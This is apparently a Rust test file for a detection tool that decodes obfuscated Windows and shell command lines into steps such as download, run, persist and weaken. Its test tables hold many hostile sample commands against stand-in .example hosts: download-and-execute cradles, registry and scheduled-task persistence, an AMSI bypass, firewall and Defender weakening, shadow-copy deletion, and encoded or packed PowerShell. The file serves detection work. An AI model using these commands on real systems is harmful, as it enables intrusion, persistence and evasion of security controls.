//! Command lines and what must come out of them. Everything is inert: hosts end in `.example`, nothing is run.

use super::*;
use crate::budget::Limits;

fn steps(command: &str) -> Vec<String> {
    let budget = Budget::new(Limits::default(), |_| ());
    decode(command, &Files::default(), &budget)
        .unwrap()
        .into_iter()
        .map(|step| format!("{:?} {}", step.kind, step.detail))
        .collect()
}

fn encoded(script: &str) -> String {
    base64_of(&script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

fn base64_of(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0_u32, |n, b| (n << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..4 {
            out.push(if i <= chunk.len() { char::from(LETTERS[(n >> (18 - 6 * i)) as usize & 63]) } else { '=' });
        }
    }
    out
}

/// Each line with the steps that must come out, in this order and no others.
fn check(table: &[(&str, &[&str])]) {
    let wrong: Vec<String> = table
        .iter()
        .filter_map(|(line, expected)| {
            let found = steps(line);
            (found != *expected).then(|| format!("{line}\n   found    {found:?}\n   expected {expected:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn patterns_of_powershell_take_text_apart() {
    for (script, expected) in [
        ("powershell iex ('c12al34c' -replace '[0-9]+','')", "calc"),
        ("powershell iex (-join ([regex]::Matches('xcxaxlxc','x(.)') | % { $_ -replace 'x','' }))", "calc"),
        ("powershell iex (('ca--lc' -split '-+') -join '')", "calc"),
        ("powershell iex ('lcca' -replace '(..)(..)','$2$1')", "calc"),
    ] {
        assert!(steps(script).iter().any(|step| step.ends_with(expected)), "{script} {:?}", steps(script));
    }
}

#[test]
fn lines_of_cmd() {
    check(&[
        ("cmd /c start foo.exe", &["Run foo.exe"]),
        (
            "cmd.exe /c certutil -urlcache -split -f http://a.example/x.exe %TEMP%\\x.exe & start %TEMP%\\x.exe",
            &["Download http://a.example/x.exe → %TEMP%\\x.exe", "Run %TEMP%\\x.exe"],
        ),
        (
            "cmd /c \"cer^tu^til -u^rlcache -f ht^tp://a.example/x.dat C:\\Users\\Public\\x.dll && rundll32 C:\\Users\\Public\\x.dll,Start\"",
            &["Download http://a.example/x.dat → C:\\Users\\Public\\x.dll", "Load C:\\Users\\Public\\x.dll,Start"],
        ),
        ("cmd /c set x=calc&&call %x%", &["Run calc"]),
        ("cmd /v:on /c \"set a=ca&set b=lc.exe&!a!!b!\"", &["Run calc.exe"]),
        ("%COMSPEC% /c %PUBLIC:~0,1%alc.exe", &["Run Calc.exe"]),
        ("cmd /c for %i in (a.exe b.exe) do start \"\" %i", &["Run a.exe", "Run b.exe"]),
        ("cmd /c for /f \"tokens=1,2 delims=;\" %i in (\"ca;lc\") do %i%j.exe", &["Run calc.exe"]),
        (
            "cmd /c for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM') do %a -c \"iwr http://a.example/b -OutFile b.txt\"",
            &["Run PowerShell -c \"iwr http://a.example/b -OutFile b.txt\"", "Download http://a.example/b → b.txt"],
        ),
        (
            "cmd /v /c \"set s=lcaexe.&for %i in (1 2 0 6 3 4 5 9) do (set o=!o!!s:~%i,1!&if %i equ 9 call %o%)\"",
            &["Run cal.exe"],
        ),
        (
            "cmd /c echo WScript.CreateObject(\"WScript.Shell\").Run \"calc.exe\" > a.vbs & cscript //nologo a.vbs",
            &["Write a.vbs", "Run a.vbs", "Run calc.exe"],
        ),
        (
            "cmd /c echo start x.exe>%TEMP%\\r.bat&%TEMP%\\r.bat",
            &["Write %TEMP%\\r.bat", "Run %TEMP%\\r.bat", "Run x.exe"],
        ),
        ("cmd /c echo iex 'calc.exe' | powershell -", &["Run calc.exe"]),
        (
            "cmd /c copy C:\\Windows\\System32\\certutil.exe %TEMP%\\ct.exe & %TEMP%\\ct.exe -urlcache -f http://a.example/a b.exe",
            &["Write %TEMP%\\ct.exe", "Download http://a.example/a → b.exe"],
        ),
        (
            "cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Up /t REG_SZ /d \"C:\\x.exe\" /f",
            &["Persist HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Up → C:\\x.exe", "Run C:\\x.exe"],
        ),
        (
            "cmd /c reg add \"HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\" /v VBAWarnings /d 1 /f",
            &["Weaken HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\\VBAWarnings → 1"],
        ),
        (
            "schtasks /create /sc minute /mo 5 /tn Up /tr \"mshta http://a.example/a.hta\" /f",
            &["Persist mshta http://a.example/a.hta", "Fetch http://a.example/a.hta"],
        ),
        (
            "cmd /c move a.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe\"",
            &["Persist %APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"],
        ),
        ("cmd /c del /q C:\\a.doc", &["Delete C:\\a.doc"]),
        ("cmd /c (echo open ftp.example& echo get a.exe)>s.txt&ftp -s:s.txt", &["Write s.txt"]),
        ("cmd /c if exist a.exe (start a.exe) else (start b.exe)", &["Run a.exe", "Run b.exe"]),
        (
            "cmd.exe /c c^m^d /c \"po^wer^shell -w h -c calc\"",
            &["Run cmd /c \"po^wer^shell -w h -c calc\"", "Run powershell -w h -c calc", "Run calc"],
        ),
        (
            "cmd /c \"\\\\host.example@SSL\\DavWWWRoot\\x.exe\"",
            &["Fetch \\\\host.example@SSL\\DavWWWRoot\\x.exe", "Run \\\\host.example@SSL\\DavWWWRoot\\x.exe"],
        ),
        ("cmd /c net use x: \\\\host.example\\share & x:\\a.exe", &["Fetch \\\\host.example\\share", "Run x:\\a.exe"]),
        ("cmd /c vssadmin delete shadows /all /quiet", &["Delete vssadmin delete shadows /all /quiet"]),
        ("cmd /c … /x", &["Run … /x"]),
    ]);
}

#[test]
fn programs_of_windows() {
    check(&[
        ("mshta http://a.example/a.hta", &["Fetch http://a.example/a.hta"]),
        (
            "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -c calc\"\", 0:close\")",
            &["Run calc"],
        ),
        ("mshta javascript:a=new%20ActiveXObject('WScript.Shell');a.Run('calc.exe')", &["Run calc.exe"]),
        ("mshta javascript:GetObject('script:http://a.example/a.sct').Exec()", &["Fetch http://a.example/a.sct"]),
        (
            "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://a.example/b\")",
            &["Fetch http://a.example/b"],
        ),
        ("rundll32.exe url.dll,OpenURL C:\\a.hta", &["Run C:\\a.hta"]),
        ("rundll32 shell32.dll,ShellExec_RunDLL calc.exe", &["Run calc.exe"]),
        (
            "rundll32 \\\\host.example@80\\a\\b.dll,Entry",
            &["Fetch \\\\host.example@80\\a\\b.dll", "Load \\\\host.example@80\\a\\b.dll,Entry"],
        ),
        ("regsvr32 /s /n /u /i:http://a.example/a.sct scrobj.dll", &["Fetch http://a.example/a.sct"]),
        ("regsvr32 /s C:\\Users\\Public\\a.ocx", &["Load C:\\Users\\Public\\a.ocx"]),
        ("msiexec /q /i http://a.example/a.msi", &["Download http://a.example/a.msi"]),
        ("wmic process call create \"powershell -c calc\"", &["Run calc"]),
        ("wmic os get /format:\"http://a.example/a.xsl\"", &["Fetch http://a.example/a.xsl"]),
        ("forfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c calc\"", &["Run calc"]),
        ("conhost --headless cmd /c calc.exe", &["Run calc.exe"]),
        ("pcalua -a C:\\x.exe -c -q", &["Run C:\\x.exe -q"]),
        (
            "bitsadmin /transfer j /download /priority high http://a.example/a.exe C:\\a.exe",
            &["Download http://a.example/a.exe → C:\\a.exe"],
        ),
        ("curl -s -o C:\\a.exe https://a.example/a", &["Download https://a.example/a → C:\\a.exe"]),
        ("curl.exe -LO https://a.example/dir/a.exe", &["Download https://a.example/dir/a.exe → a.exe"]),
        ("wget https://a.example/a.bin -O b.bin", &["Download https://a.example/a.bin → b.bin"]),
        ("certutil -decode a.txt a.exe", &["Write a.exe"]),
        ("installutil /logfile= /U C:\\a.dll", &["Load C:\\a.dll"]),
        ("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\MSBuild.exe C:\\a.csproj", &["Load C:\\a.csproj"]),
        ("ssh -o ProxyCommand=\"powershell -c calc\" host.example", &["Run calc"]),
        ("odbcconf /a {regsvr C:\\a.dll}", &["Load C:\\a.dll"]),
        ("cmstp /ni /s C:\\a.inf", &["Load C:\\a.inf"]),
        ("finger u@host.example | cmd", &["Fetch u@host.example"]),
        ("explorer C:\\a.lnk", &["Run C:\\a.lnk"]),
        ("netsh advfirewall set allprofiles state off", &["Weaken netsh advfirewall set allprofiles state off"]),
        ("sc create x binPath= \"C:\\a.exe\" start= auto", &["Persist C:\\a.exe", "Run C:\\a.exe"]),
        ("sh -c \"curl -s http://a.example/a | bash\"", &["Fetch http://a.example/a"]),
        (
            "python -c \"import os;os.system('curl http://a.example/a -o /tmp/a')\"",
            &["Download http://a.example/a → /tmp/a"],
        ),
    ]);
}

#[test]
fn scripts_of_powershell() {
    check(&[
        ("powershell -c calc", &["Run calc"]),
        (
            "powershell -nop -w hidden -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString('http://a.example/a.ps1')\"",
            &["Fetch http://a.example/a.ps1", "Run http://a.example/a.ps1"],
        ),
        (
            "powershell (New-Object System.Net.WebClient).DownloadFile('http://a.example/a','C:\\a.exe');Start-Process C:\\a.exe",
            &["Download http://a.example/a → C:\\a.exe", "Run C:\\a.exe"],
        ),
        (
            "powershell iwr -Uri http://a.example/a -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe",
            &["Download http://a.example/a → %TEMP%\\a.exe", "Run %TEMP%\\a.exe"],
        ),
        ("powershell \"irm a.example/x | iex\"", &["Fetch a.example/x", "Run a.example/x"]),
        ("powershell -c \"&('ie'+'x') ('ca'+'lc.exe')\"", &["Run calc.exe"]),
        ("powershell -c \"$a='{1}{0}' -f 'lc','ca'; . ('{0}{1}'-f'ie','x') $a\"", &["Run calc"]),
        ("powershell -c \"iex ([char]99+[char]97+[char]108+[char]0x63)\"", &["Run calc"]),
        ("powershell -c \"iex (-join [char[]](99,97,108,99))\"", &["Run calc"]),
        ("powershell -c \"iex ('clac'[0,2,1,3]-join'')\"", &["Run calc"]),
        ("powershell -c \"iex ('c-a-l-c' -split '-' -join '')\"", &["Run calc"]),
        ("powershell -c \"iex ('cXXalc' -replace 'XX','')\"", &["Run calc"]),
        ("powershell -c \"iex ('cXXalc'.Replace('XX',''))\"", &["Run calc"]),
        ("powershell -c \"$x='clac'.ToCharArray();[array]::Reverse($x);iex (-join $x)\"", &["Run calc"]),
        ("powershell -c \"iex ((100,98,109,100|%{[char]($_-1)})-join'')\"", &["Run calc"]),
        ("powershell -c \"iex (-join((102,100,105,102)|foreach{[char]($_ -bxor 5)}))\"", &["Run calc"]),
        ("powershell -c \"$b=@(102,100,105,102);$s='';foreach($i in $b){$s+=[char]($i-3)};iex $s\"", &["Run cafc"]),
        ("powershell -c \"for($i=0;$i -lt 4;$i++){$s+='calc'[$i]};i`ex $s\"", &["Run calc"]),
        ("powershell -c \"& $env:comspec[4,24,25]-join''\"", &[]),
        ("powershell -c \".($env:comspec[4,24,25]-join'') 'calc'\"", &["Run calc"]),
        ("powershell -c \"& ($PSHome[4]+$PSHome[30]+'x') 'calc'\"", &["Run calc"]),
        ("powershell -c \"& ((gv '*mdr*').Name[3,11,2]-join'') 'calc'\"", &["Run calc"]),
        ("powershell -c \"$v=$VerbosePreference.ToString()[1,3]+'x'-join'';&$v 'calc'\"", &["Run calc"]),
        ("powershell -c \"& (gcm *ke-ex*) 'calc'\"", &["Run calc"]),
        (
            "powershell -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y2FsYw==')) | iex\"",
            &["Run calc"],
        ),
        ("powershell -c \"function d($a){-join($a[-1..-($a.Length)])};iex (d 'clac')\"", &["Run calc"]),
        ("powershell -c \"Set-Alias z iex; z 'calc'\"", &["Run calc"]),
        ("powershell -c \"[scriptblock]::Create('ca'+'lc').Invoke()\"", &["Run calc"]),
        ("powershell -c \"$ExecutionContext.InvokeCommand.InvokeScript('ca'+'lc')\"", &["Run calc"]),
        (
            "powershell -c \"Start-BitsTransfer -Source http://a.example/a -Destination C:\\a.exe; saps C:\\a.exe\"",
            &["Download http://a.example/a → C:\\a.exe", "Run C:\\a.exe"],
        ),
        ("powershell -c \"Add-MpPreference -ExclusionPath D:\"", &["Weaken Add-MpPreference -ExclusionPath D:"]),
        (
            "powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\"",
            &["Weaken System.Management.Automation.AmsiUtils", "Weaken amsiInitFailed"],
        ),
        (
            "powershell -c \"[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example/a.dll'))\"",
            &["Fetch http://a.example/a.dll", "Inject Assembly.load(http://a.example/a.dll)"],
        ),
        (
            "powershell -c \"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value C:\\a.exe\"",
            &["Persist HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u → C:\\a.exe", "Run C:\\a.exe"],
        ),
        ("powershell -c \"$w=New-Object -ComObject WScript.Shell;$w.Run('calc.exe')\"", &["Run calc.exe"]),
        ("powershell -c \"cmd /c start calc.exe\"", &["Run calc.exe"]),
        (
            "powershell -c \"$u='http://a.example/';$c=New-Object Net.WebClient;foreach($n in 'a','b'){$c.DownloadFile($u+$n,$n)}\"",
            &["Download http://a.example/a → a", "Download http://a.example/b → b"],
        ),
        ("powershell -c \"$r=$undefined; iex $r\"", &[]),
        ("powershell -c \"(Get-Content $env:temp\\x) | iex\"", &["Run …"]),
        ("pwsh \u{2013}c calc", &["Run calc"]),
        ("powershell Write-Host http://a.example/", &[]),
    ]);
}

#[test]
fn disguises_that_are_common() {
    check(&[
        (
            "powershell -c \"$w=New-Object Net.WebClient;$u='http://a.example/1@http://b.example/2'.Split('@');foreach($i in $u){try{$w.DownloadFile($i,'a.exe');Invoke-Item 'a.exe';break;}catch{}}\"",
            &["Download http://a.example/1 → a.exe", "Run a.exe", "Download http://b.example/2 → a.exe"],
        ),
        (
            "powershell -c \"[string]::Join('', ('63 61 6c 63' -split ' ' | %{[char][convert]::ToInt32($_,16)}))|iex\"",
            &["Run calc"],
        ),
        ("powershell -c \"sv x 'calc'; iex (gv x -valueonly)\"", &["Run calc"]),
        ("powershell -c \"sv x ('ca'+'lc'); iex (ls variable:x).value\"", &["Run calc"]),
        ("powershell -c \"${`a}='ca';iex ${`a}lc\"", &["Run calc"]),
        (
            "powershell -c \"'124X126Y115Z124'.Split('XYZ')|%{[char]([int]$_ -bxor 0x1F)}|%{$s+=$_};iex $s\"",
            &["Run calc"],
        ),
        ("powershell -c \"iex (-join ('clac'[-1..-4]))\"", &["Run calc"]),
        ("powershell -c '\"$([char]99)alc\"|iex'", &[]),
        (
            "powershell -c \"$wc=New-Object System.Net.WebClient;$wc.Headers.Add('a','b');[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12;$wc.Proxy=[Net.WebRequest]::GetSystemWebProxy();$wc.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $wc.downloadstring('http://a.example/s')\"",
            &["Fetch http://a.example/s", "Run http://a.example/s"],
        ),
        (
            "powershell (New-Object System.Net.WebClient).DownloadFile('http://a.example/a.exe',$env:Temp+'\\a.exe');(New-Object -com Shell.Application).ShellExecute($env:Temp+'\\a.exe')",
            &["Download http://a.example/a.exe → %TEMP%\\a.exe", "Run %TEMP%\\a.exe"],
        ),
        (
            "powershell Start-Process -WindowStyle hidden -FilePath calc.exe -ArgumentList '/x','/y'",
            &["Run calc.exe /x /y"],
        ),
        (
            "powershell -c \"iex(iwr http://a.example/z -UseBasicParsing).Content\"",
            &["Fetch http://a.example/z", "Run http://a.example/z"],
        ),
        ("powershell -c \"$c={iex $args[0]};&$c 'calc'\"", &["Run calc"]),
        ("powershell -c \"&{calc}\"", &["Run calc"]),
        (
            "powershell -c \"if($PSVersionTable.PSVersion.Major -ge 3){calc}else{notepad2}\"",
            &["Run calc", "Run notepad2"],
        ),
        ("powershell -c \"$s=@'\nca\n'@+'lc'; iex $s\"", &["Run calc"]),
        ("powershell -c \"iex ('caZlc' -creplace 'Z',[string][char]0x2e).Replace('.','')\"", &["Run calc"]),
        ("cmd /V/C\"set x=calc&&echo !x!|cmd\"", &["Run calc"]),
        ("cmd /c start /min \"\" powershell -c calc", &["Run calc"]),
        (
            "cmd /c \"for /f \"tokens=*\" %i in ('curl -s http://a.example/x') do %i\"",
            &["Fetch http://a.example/x", "Run …"],
        ),
        (
            "cmd /c echo a=1>>a.vbs&echo CreateObject(\"WScript.Shell\").Run \"calc.exe\">>a.vbs&wscript a.vbs",
            &["Write a.vbs", "Run a.vbs", "Run calc.exe"],
        ),
        ("cmd /c \"set a=pow& set b=ershell& call %a%%b% -c calc\"", &["Run powershell -c calc", "Run calc"]),
        ("cmd /c set x=cXalc& call %x:X=%", &["Run calc"]),
        ("rundll32.exe C:\\ProgramData\\a.dat #1", &["Load C:\\ProgramData\\a.dat,#1"]),
        (
            "tell application \"Finder\"\rdo shell script \"curl -o /tmp/a http://a.example/a; chmod +x /tmp/a\"\rend tell",
            &["Download http://a.example/a → /tmp/a", "Run /tmp/a"],
        ),
        (
            "powershell -c \"Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute 'calc.exe' -Argument '/q')\"",
            &["Persist calc.exe /q", "Run calc.exe /q"],
        ),
        (
            "powershell -c \"Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc();' -Name a\"",
            &["Inject Add-Type DllImport"],
        ),
    ]);
}

#[test]
fn encoded_commands_and_packed_streams() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')";
    for switch in ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/e", "\u{2013}enc", "-eNco"] {
        let line = format!("powershell -nop -w 1 {switch} {}", encoded(script));
        assert_eq!(
            steps(&line),
            [&format!("Run {script}"), "Fetch http://a.example/p", "Run http://a.example/p"],
            "{switch}"
        );
    }
    let pack = |gzip: bool| {
        use std::io::Write;
        if gzip {
            let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            encoder.write_all(b"calc.exe /packed").unwrap();
            base64_of(&encoder.finish().unwrap())
        } else {
            let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
            encoder.write_all(b"calc.exe /packed").unwrap();
            base64_of(&encoder.finish().unwrap())
        }
    };
    let gzip = format!(
        "powershell -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        pack(true)
    );
    assert_eq!(steps(&gzip).last().unwrap(), "Run calc.exe /packed");
    let deflate = format!(
        "powershell -c \"iex $(New-Object IO.StreamReader ($(New-Object IO.Compression.DeflateStream ($(New-Object IO.MemoryStream (,$([Convert]::FromBase64String('{}')))), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()\"",
        pack(false)
    );
    assert_eq!(steps(&deflate).last().unwrap(), "Run calc.exe /packed");
    let nested = encoded(&format!("powershell -enc {}", encoded("cmd /c calc")));
    assert_eq!(steps(&format!("cmd /c powershell -enc {nested}")).last().unwrap(), "Run calc");
}

#[test]
fn honest_lines_have_no_grave_steps() {
    check(&[
        ("notepad C:\\a.txt", &[]),
        ("explorer C:\\folder", &[]),
        ("explorer.exe /select,\"C:\\folder\\a.xlsx\"", &[]),
        ("cmd /c dir > list.txt", &["Write list.txt"]),
        ("cmd /c dir /b \"C:\\My folder\" > \"C:\\My folder\\list.txt\"", &["Write C:\\My folder\\list.txt"]),
        ("powershell -File C:\\tools\\report.ps1", &[]),
        ("powershell -ExecutionPolicy Bypass -File \"C:\\tools\\report.ps1\" -Month 5", &[]),
        ("ipconfig", &[]),
        ("cmd /c ping -n 3 server > nul", &[]),
        ("C:\\Program Files\\Tool\\tool.exe /x", &[]),
        ("\"C:\\Program Files\\Adobe\\Acrobat.exe\" \"C:\\a.pdf\"", &[]),
        ("rundll32.exe url.dll,FileProtocolHandler https://www.example/help", &["View https://www.example/help"]),
        ("https://www.example/help", &["View https://www.example/help"]),
        ("cmd /c start https://www.example/help", &["View https://www.example/help"]),
        ("cmd /c mkdir C:\\out", &[]),
        ("cmd /c copy a.csv + b.csv all.csv", &["Write all.csv"]),
        ("mailto:a@b.example?subject=x", &[]),
        ("", &[]),
        ("…", &[]),
    ]);
}

#[test]
fn hostile_lines_come_back() {
    let budget = Budget::new(Limits::default(), |_| ());
    for line in [
        format!("cmd /c {}", "(".repeat(20_000)),
        "cmd /v /c \"set a=x&for /l %i in (1,1,99999999) do set a=!a!!a!\"".into(),
        format!("powershell -c {}", "(".repeat(30_000)),
        format!("powershell -c {}1", "[char]".repeat(9_000)),
        format!("powershell -c {}", "$(".repeat(20_000)),
        format!("powershell -c \"{}\"", "'a'+".repeat(12_000)),
        format!("powershell -c 'a'{}", ".Replace('a','aa')".repeat(2_000)),
        "powershell -c while(1){$a+='xxxxxxxxxxxxxxxx'}".into(),
        "powershell -c for($i=0;$i -lt 99999999;$i++){$a+='xxxxxxxxxxxxxxxx'}".into(),
        "powershell -c function f{f};f".into(),
        "powershell -c $x='iex $x';iex $x".into(),
        "powershell -c 1..60000|%{1..60000|%{'a'*60000}}".into(),
        format!("cmd /c {}calc", "cmd /c ".repeat(5_000)),
        format!("cmd /c {}calc", "for %i in (1 2 3 4 5 6 7 8 9) do ".repeat(200)),
        format!("powershell -c {}", "{".repeat(30_000)),
        format!("powershell -c {}", "if(1){".repeat(5_000)),
        format!("powershell -c \"{}\"", "@{a=".repeat(9_000)),
        format!("cmd /c {}", "if 1==1 ".repeat(8_000)),
        "%".repeat(60_000),
        "\"".repeat(60_000),
        "\\".repeat(60_000),
    ] {
        let started = std::time::Instant::now();
        let _ = decode(&line, &Files::default(), &budget);
        assert!(started.elapsed().as_secs() < 20, "{}", &line[..40]);
    }
}

#[test]
fn every_cut_of_a_line_comes_back() {
    let line = "cmd /v /c \"set a=x&for /f \"tokens=1*\" %i in ('echo b c^|find \"b\"') do (if !a!==x call %i) & powershell -c \"$a=@{b='c'};foreach($i in 1..3){try{\"$($i)`n${a}\"|%{[char]($_ -bxor 1)}}catch{@'\n'@}}\"\"";
    for (at, _) in line.char_indices() {
        let _ = steps(&line[..at]);
        let _ = steps(&line[at..]);
    }
}

#[test]
fn a_script_that_was_not_run_to_its_end_is_searched_too() {
    // What comes first is a decoy; calls without end use up the allowance before the last line.
    let script = "function f(n) { return f(n + 1) + f(n) } function g() { s.Run('powershell -c calc.exe') }";
    let line = format!("mshta javascript:{script};s=new ActiveXObject('WScript.Shell');s.Run('notepad');f(0);g()");
    let found = steps(&line);
    assert!(found.iter().any(|step| step == "Run calc.exe"), "{found:?}");
    // And the report shows that something is missing.
    assert!(found.iter().any(|step| step == "Run …"), "{found:?}");
    // Nothing is missing here.
    assert_eq!(steps("mshta javascript:new ActiveXObject('WScript.Shell').Run('x.exe')"), ["Run x.exe"]);
}

#[test]
fn what_is_not_read_of_a_line_is_a_gap() {
    let long = format!("cmd /c rem {}& calc.exe", "x".repeat(LAYER));
    assert_eq!(steps(&long), ["Run …"]);
    let many: String = (0..MOST + 9).map(|at| format!("start a{at}.exe & ")).collect();
    let found = steps(&format!("cmd /c {many}"));
    assert!(found.len() <= MOST + 1 && found.last().is_some_and(|step| step == "Run …"), "{found:?}");
}

#[test]
fn encoded_scripts_are_decoded() {
    let script = crate::languages::encoded::tests::encoded("new ActiveXObject('WScript.Shell').Run('ca' + 'lc.exe')");
    let mut files = Files::default();
    files.replace("a.jse", &script);
    files.replace("b.htm", &format!("<script language=JScript.Encode>{script}</script>"));
    let budget = Budget::new(Limits::default(), |_| ());
    for line in ["wscript %TEMP%\\a.jse", "mshta b.htm"] {
        let found = decode(line, &files, &budget).unwrap();
        assert!(found.iter().any(|step| step.detail == "calc.exe"), "{line}: {found:?}");
    }
}
